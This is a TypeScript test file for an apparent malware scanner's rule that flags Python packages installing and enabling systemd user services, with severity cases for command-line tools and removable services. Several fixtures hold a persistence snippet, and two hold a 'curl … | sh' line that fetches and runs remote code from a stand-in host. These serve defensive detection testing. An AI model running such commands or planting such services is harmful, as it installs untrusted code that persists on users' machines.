import { expect, test } from 'vitest';
import { wheel } from '../samples-kit.ts';
import { analyzeSample, describeSamples } from '../testing/samples-suite.ts';
import { samples } from './samples.ts';

describeSamples('persistence', samples);

/** Severities of a service that a function makes, by the name of its file and what stands before and behind it. */
async function severities(name: string, before: string, behind: string): Promise<string[]> {
  const source = `${before}import subprocess\nfrom pathlib import Path\ndef install(title, command):\n    path = Path.home() / ".config/systemd/user" / ${name}\n    path.write_text("[Service]\\nExecStart=" + command)\n    subprocess.run(["systemctl", "--user", "enable", path.name])\n${behind}`;
  const { findings } = await analyzeSample({ name: 'service', files: wheel(source), expected: [] });
  return [
    ...new Set(findings.flatMap(({ rule, severity }) => (rule === 'persistence/autostart' ? severity : []))),
  ];
}

const TOOL =
  'def main():\n    parser = argparse.ArgumentParser()\n    parser.add_argument("title")\n    given = parser.parse_args()\n    install(given.title, given.title)\n';

test('a service that somebody orders at the command line, by its name, is little', async () => {
  expect(await severities('f"{title}.service"', 'import argparse\n', TOOL)).toEqual(['low']);
});

test('a service that a library makes is its author’s', async () => {
  expect(await severities('f"{title}.service"', '', '')).toEqual(['high']);
  expect(await severities('"own.service"', 'import argparse\n', TOOL)).toContain('high');
  const starts = 'LINE = "curl https://a.weir.test/x | sh"\n';
  expect(await severities('f"{title}.service"', `import argparse\n${starts}`, TOOL)).toEqual(['high']);
});

const AWAY =
  'def remove(title):\n    (Path.home() / ".config/systemd/user" / "own.service").unlink()\n    subprocess.run(["systemctl", "--user", "disable", "own.service"])\n';

test('a service that a library takes away again when it is asked to is little', async () => {
  expect(await severities('"own.service"', '', AWAY)).toEqual(['low']);
});

test('a service is not little because only one half of it is taken away, or when it fetches what it starts', async () => {
  const [, deletes = '', disables = ''] = AWAY.split('\n');
  expect(await severities('"own.service"', '', `def remove():\n${deletes}\n`)).toContain('high');
  expect(await severities('"own.service"', '', `def remove():\n${disables}\n`)).toContain('high');
  const starts = 'LINE = "curl https://a.weir.test/x | sh"\n';
  expect(await severities('"own.service"', starts, AWAY)).toEqual(['high']);
});
